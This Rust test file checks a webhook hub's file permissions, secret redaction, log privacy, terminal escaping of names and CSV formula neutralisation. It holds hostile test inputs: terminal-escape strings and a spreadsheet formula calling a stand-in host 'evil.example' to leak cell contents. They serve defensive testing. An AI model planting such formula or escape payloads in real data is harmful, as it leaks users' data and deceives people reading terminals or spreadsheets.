//! What lies on the disk, and what commands print.

use std::{os::unix::fs::PermissionsExt, path::Path, process::Command};

use base64::{Engine, engine::general_purpose::STANDARD};
use stagedoor::{DEFAULT_CONFIG, Hub, read_config, terminal};
use stagedoor_model::{Body, Event};
use stagedoor_testkit::{SignedRequest, form};
use stagedoor_tests::{
    hub::TestHub,
    provider_harness::{ProviderHarness, source},
};

fn mode(path: &Path) -> u32 {
    std::fs::metadata(path).expect("a file").permissions().mode() & 0o7777
}

/// Of the files that are there: a database that is being closed takes its logs away.
fn modes(folder: &Path) -> Vec<(String, u32)> {
    let files = std::fs::read_dir(folder).expect("a folder").flatten();
    let mode = |file: &std::fs::DirEntry| Some(std::fs::metadata(file.path()).ok()?.permissions().mode() & 0o7777);
    files.filter_map(|file| Some((file.file_name().to_string_lossy().into_owned(), mode(&file)?))).collect()
}

fn open(folder: &Path) {
    let config = read_config("stagedoor.toml", DEFAULT_CONFIG, None).expect("a config");
    drop(Hub::open(config, folder, "serve").expect("a hub"));
}

#[tokio::test]
async fn files_come_forward_only_while_no_hub_serves_from_them() {
    let folder = tempfile::tempdir().expect("a folder");
    let folder = folder.path();
    open(folder);
    let file = folder.join("outbox.db");
    let connection = || rusqlite::Connection::open(&file).expect("opened");
    let version = || connection().query_row("PRAGMA user_version", [], |row| row.get::<_, i64>(0)).expect("a format");
    let latest = version();
    connection().pragma_update(None, "user_version", latest - 1).expect("set");
    let serving = stagedoor::lock(folder).expect("the lock of a hub that serves");
    let config = read_config("stagedoor.toml", DEFAULT_CONFIG, None).expect("a config");
    let refusal = Hub::open(config, folder, "command-1").err().expect("refused");
    assert!(refusal.contains("have to be brought forward") && refusal.contains("restart the hub"), "{refusal}");
    assert_eq!(version(), latest - 1);
    assert!(!folder.join(format!("outbox.db.before-{latest}")).exists(), "nothing is changed");
    drop(serving);
    open(folder);
    assert_eq!(version(), latest, "nobody serves: any command may");
    let _serving = stagedoor::lock(folder).expect("the lock is free again");
    open(folder);
}

#[tokio::test]
async fn the_files_are_the_owners_alone() {
    let hub = TestHub::start().await;
    hub.take(&form("/website/tilda", &[("Phone", "8 916 123-45-67")]).header("x-api-key", "tilda-api-key")).await;
    hub.settled().await;
    let all = modes(hub.folder.path());
    assert!(all.len() >= 8, "databases, their logs and the lock: {all:?}");
    assert!(all.iter().all(|(_, mode)| *mode == 0o600), "{all:?}");
}

#[tokio::test]
async fn a_folder_and_files_that_others_could_read_are_closed_at_the_start() {
    let parent = tempfile::tempdir().expect("a folder");
    let folder = parent.path().join("deep/data");
    open(&folder);
    assert_eq!((mode(&folder), mode(&folder.join("hub.db"))), (0o700, 0o600), "made so");
    let set = |path: &Path, mode: u32| std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode));
    let wider = |path: &Path, mode: u32| set(path, mode).expect("set");
    for (name, _) in modes(&folder) {
        // A database that is still being closed takes its logs away.
        let is_log = name.ends_with("-wal") || name.ends_with("-shm");
        assert!(set(&folder.join(&name), 0o644).is_ok() || is_log, "{name}");
    }
    wider(&folder, 0o755);
    open(&folder);
    assert_eq!(mode(&folder), 0o700);
    let all = modes(&folder);
    assert!(all.iter().all(|(_, mode)| *mode == 0o600), "{all:?}");
    // A folder of everybody's is not the hub's to close.
    let shared = parent.path().join("shared");
    std::fs::create_dir(&shared).expect("a folder");
    wider(&shared, 0o1777);
    open(&shared);
    assert_eq!((mode(&shared), mode(&shared.join("hub.db"))), (0o1777, 0o600));
}

/// What is kept of a delivery that was not understood.
async fn kept(provider: &str, secret: &str, signed_request: impl FnOnce(&str) -> SignedRequest) -> (Event, String) {
    let harness = ProviderHarness::open(source(provider, secret), "2027-01-15T12:00:00Z".parse().expect("a time"));
    let outcome = harness.take(&signed_request(&harness.path)).await;
    assert_eq!(outcome.status, 200, "{provider}: {}", outcome.answer);
    let event = outcome.events.into_iter().find(|one| matches!(one.body, Body::Unrecognized(_))).expect("it is kept");
    let Body::Unrecognized(kept) = &event.body else { panic!("kept") };
    let body = String::from_utf8(STANDARD.decode(&kept.body).expect("base64")).expect("text");
    (event, body)
}

#[tokio::test]
async fn no_secret_is_kept_with_what_was_not_understood() {
    let vk = serde_json::json!({ "type": "new_thing", "group_id": 191_949_777, "secret": "s3cr3t-of-vk", "object": { "a": 1 } });
    let (event, body) = kept("vk", "s3cr3t-of-vk", |path| stagedoor_testkit::json(path, &vk)).await;
    assert!(!body.contains("s3cr3t") && body.contains("new_thing"), "{body}");
    assert!(!serde_json::to_string(&event).expect("JSON").contains(&STANDARD.encode("s3cr3t-of-vk")[..12]));
    let (_, body) = kept("carrotquest", "s3cr3t", |path| form(path, &[("token", "s3cr3t"), ("type", "strange")])).await;
    assert!(!body.contains("s3cr3t") && body.contains("type=strange"), "{body}");
    let (_, body) = kept("tilda", "s3cr3t", |path| form(path, &[("X-Api-Key", "s3cr3t"), ("city", "Ufa")])).await;
    assert!(!body.contains("s3cr3t") && body.contains("city=Ufa"), "{body}");
    let (_, body) = kept("tilda", "s3cr3t", |path| {
        stagedoor_testkit::json(path, &serde_json::json!({ "x-api-key": "s3cr3t", "city": "Ufa" }))
    })
    .await;
    assert!(!body.contains("s3cr3t") && body.contains("Ufa"), "{body}");
}

#[tokio::test]
async fn a_secret_is_not_kept_under_another_name_or_deep_in_a_body() {
    let vk = serde_json::json!({
        "type": "new_thing", "group_id": 191_949_777, "secret": "s3cr3t-of-vk", "object": { "copy": ["s3cr3t-of-vk"] },
        "note": "it is s3cr3t-of-vk",
    });
    let (_, body) = kept("vk", "s3cr3t-of-vk", |path| stagedoor_testkit::json(path, &vk)).await;
    assert!(!body.contains("s3cr3t") && body.contains("it is "), "{body}");
    let fields =
        [("token", "s3cr3t-of-cq"), ("type", "strange"), ("old_token", "s3cr3t-of-cq"), ("a[b]", "{s3cr3t-of-cq}")];
    let (_, body) = kept("carrotquest", "s3cr3t-of-cq", |path| form(path, &fields)).await;
    assert!(!body.contains("s3cr3t") && body.contains("type=strange"), "{body}");
}

#[test]
fn a_name_moves_no_cursor_and_begins_no_line() {
    let name = "\u{1b}]0;pwned\u{7}\u{1b}[2J\u{1b}[31mRed\u{202e}gpj\r\nfake line\u{9b}0m\u{2028}";
    let shown = terminal::escaped(name);
    assert!(shown.chars().all(|c| !c.is_control() && c != '\u{202e}' && c != '\u{2028}'), "{shown:?}");
    assert!(shown.contains("pwned") && shown.contains("\\u{1b}") && shown.contains("Red"), "{shown}");
    assert_eq!(terminal::escaped("Анна «Ё» 🎭"), "Анна «Ё» 🎭", "other letters stay");
    // What is exported stays JSON.
    let value = serde_json::json!({ "name": format!("\u{200e}Анна 🎭{name}") });
    let shown = terminal::escaped_json(&serde_json::to_string_pretty(&value).expect("JSON"));
    assert!(!shown.contains('\u{200e}'), "{shown}");
    assert_eq!(serde_json::from_str::<serde_json::Value>(&shown).expect("JSON"), value);
}

#[tokio::test]
async fn explain_and_segment_write_names_out() {
    let hub = TestHub::start().await;
    let fields = [("Name", "Mallory\u{1b}[2J\nfake line"), ("Phone", "8 916 123-45-67")];
    hub.take(&form("/website/tilda", &fields).header("x-api-key", "tilda-api-key")).await;
    hub.settled().await;
    let identifier = stagedoor::commands::read_identifier("+79161234567", hub.hub.config.region).expect("a phone");
    let text = stagedoor::commands::explanation(&hub.hub, &identifier).await.expect("somebody");
    assert!(text.contains("Mallory") && !text.contains('\u{1b}'), "{text:?}");
    assert!(!text.lines().any(|line| line.starts_with("fake")), "{text:?}");
}

/// A program that prints through the hub's functions, with its output closed after a line.
#[tokio::test(flavor = "multi_thread")]
async fn a_closed_pipe_is_no_panic() {
    for child in ["child_prints_much", "child_plays_much"] {
        let run = move || {
            let this = std::env::current_exe().expect("this binary");
            let line = format!("{} --ignored --exact --nocapture edge::files::{child} | head -1", this.display());
            Command::new("bash").args(["-c", &line]).output().expect("a shell")
        };
        let output = tokio::task::spawn_blocking(run).await.expect("joined");
        let error = String::from_utf8_lossy(&output.stderr);
        assert!(!error.contains("panicked"), "{error}");
    }
}

#[test]
fn no_log_line_holds_a_phone_whatever_is_asked_for() {
    let this = std::env::current_exe().expect("this binary");
    let output = Command::new(this)
        .args(["--ignored", "--exact", "--nocapture", "edge::files::child_reads_a_phone"])
        .env("RUST_LOG", "trace,rlibphonenumber=trace,rlibphonenumber::phonenumberutil=trace")
        .output()
        .expect("a child");
    let told = String::from_utf8_lossy(&output.stderr);
    assert!(output.status.success(), "{told}");
    assert!(!told.contains("9161234567") && !told.contains("123-45-67"), "{told}");
}

#[test]
#[ignore = "only as a child process"]
fn child_reads_a_phone() {
    stagedoor::start_logs();
    let region = stagedoor_model::Region::new("RU").expect("a region");
    assert!(!stagedoor_model::Phone::parse_all("8 (916) 123-45-67", region).is_empty());
}

#[test]
#[ignore = "only as a child process"]
fn child_plays_much() {
    terminal::end_on_closed_pipe();
    for n in 0..100_000 {
        println!("{n} people");
    }
    std::process::exit(0);
}

#[test]
#[ignore = "only as a child process"]
fn child_prints_much() {
    for n in 0..100_000 {
        terminal::line(format!("{n} people"));
    }
    // The harness prints the outcome and would panic itself.
    std::process::exit(0);
}

#[tokio::test]
async fn no_cell_of_a_report_is_a_formula() {
    let hub = TestHub::start().await;
    let city = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Ufa\"); @SUM(A1);+1;\t=2\u{1b}[2J";
    let show = serde_json::json!({ "id": "evil-1", "title": "Show", "city": city });
    let at = (hub.now() - std::time::Duration::from_secs(3600)).to_string();
    let order = serde_json::json!({ "type": "order", "data": {
        "id": "E-1", "number": "E-1", "status": "paid", "updated_at": at, "placed_at": at, "paid_at": at, "currency": "RUB",
        "total": "1500.00", "buyer": { "name": "Anna", "email": "anna@example.com" },
        "tickets": [{ "id": "t1", "show": show, "price": "1500.00" }], "refunds": [],
    }});
    let stamp = (hub.now() - std::time::Duration::from_secs(7200)).strftime("%F %T").to_string();
    let letter = serde_json::json!({ "event_name": "email_status", "event_time": stamp,
        "event_data": { "email": "anna@example.com", "campaign_id": 7, "status": "ok_link_visited" } });
    hub.take(&stagedoor_testkit::unisender("/mail/unisender", &[letter], "6x4mpl3un1s3nd3rk3y0000000000000")).await;
    hub.take(&stagedoor_testkit::form_signed("/ticketing/theatre", &order, "theatre-shop-secret", "E-1", hub.now()))
        .await;
    hub.settled().await;
    let csv = stagedoor::report::report(&hub.hub).await.expect("a report").csv().expect("CSV");
    assert!(csv.contains("HYPERLINK"), "the city is in it: {csv}");
    assert!(!csv.contains('\u{1b}'), "it moves no cursor of a terminal");
    for line in csv.lines().skip(1) {
        // Excel in Russian parts cells at semicolons.
        for key_value in line.split([',', ';', '\t']) {
            let key_value = key_value.trim_start_matches(['"', ' ']);
            assert!(key_value == "-" || !key_value.starts_with(['=', '+', '-', '@']), "{key_value} in {csv}");
        }
    }
}
